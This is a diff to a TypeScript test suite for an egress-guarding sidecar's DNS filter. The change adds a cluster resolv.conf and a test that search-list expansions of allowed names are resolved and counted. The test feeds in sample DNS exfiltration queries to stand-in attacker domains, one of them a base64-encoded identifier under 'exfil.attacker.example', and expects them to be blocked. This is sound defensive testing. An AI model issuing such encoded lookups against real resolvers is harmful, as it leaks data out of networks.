@@ -3,6 +3,9 @@
 // resolver (the DNS exfiltration channel), and is journaled as an egress attempt. Pure parts first,
 // then the guard in a real sidecar against a real resolver stand-in on loopback.
 import dgram from 'node:dgram';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { Resolver } from 'node:dns/promises';
 import net from 'node:net';
 import { startSidecar, type EgressAttempt, type Sidecar } from '../src/index.js';
@@ -114,8 +117,10 @@ describe('the DNS guard in a sidecar', () => {
       s.end(Buffer.concat([len, out]));
     }));
     await new Promise<void>((r) => tcp.listen(resolverPort, '127.0.0.1', r));
+    const resolvConf = join(mkdtempSync(join(tmpdir(), 'sg-dns-')), 'resolv.conf');
+    writeFileSync(resolvConf, 'nameserver 10.96.0.10\nsearch team-a.svc.cluster.local svc.cluster.local cluster.local\noptions ndots:5\n');
     sidecar = await startSidecar({
-      upstreamUrl: 'https://api.anthropic.com', upstreamApiKey: 'k', dnsResolver: `127.0.0.1:${resolverPort}`,
+      upstreamUrl: 'https://api.anthropic.com', upstreamApiKey: 'k', dnsResolver: `127.0.0.1:${resolverPort}`, resolvConfFile: resolvConf,
       listen: { claude: 0, egress: 0, dns: 0, health: 0, metrics: 0, adminHost: '127.0.0.1' },
     }, {
       logger: createLogger('silent'),
@@ -136,7 +141,9 @@ describe('the DNS guard in a sidecar', () => {
     expect(await resolver.resolve4('api.anthropic.com')).toEqual(['192.0.2.7']);
     await expect(resolver.resolve4('Y3VzdG9tZXItNDQxMQ.exfil.attacker.example')).rejects.toMatchObject({ code: 'ENOTFOUND' });
     await expect(resolver.resolveTxt('api.github.com.evil.example')).rejects.toMatchObject({ code: 'ENOTFOUND' });
-    expect(seen).toEqual(['api.github.com', 'api.anthropic.com']);
+    // A search-list expansion of an allowed name (what a short service name needs) is resolved too.
+    expect(await resolver.resolve4('api.github.com.svc.cluster.local')).toEqual(['192.0.2.7']);
+    expect(seen).toEqual(['api.github.com', 'api.anthropic.com', 'api.github.com.svc.cluster.local']);
     expect(attempts).toEqual([
       expect.objectContaining({ method: 'DNS A', destination: 'y3vzdg9tzxitndqxmq.exfil.attacker.example', allowed: false, reason: expect.stringContaining('answered NXDOMAIN in the pod') }),
       expect.objectContaining({ method: 'DNS TXT', destination: 'api.github.com.evil.example', allowed: false }),
@@ -144,6 +151,7 @@ describe('the DNS guard in a sidecar', () => {
     const metrics = await (await fetch(sidecar.metricsUrl + '/metrics')).text();
     expect(metrics).toContain('skillgate_sidecar_dns_queries_total{decision="allowed"} 2');
     expect(metrics).toContain('skillgate_sidecar_dns_queries_total{decision="denied"} 2');
+    expect(metrics).toContain('skillgate_sidecar_dns_queries_total{decision="search"} 1');
   });
 
   test('over TCP the same, framed; a malformed query gets FORMERR and nothing is forwarded', async () => {
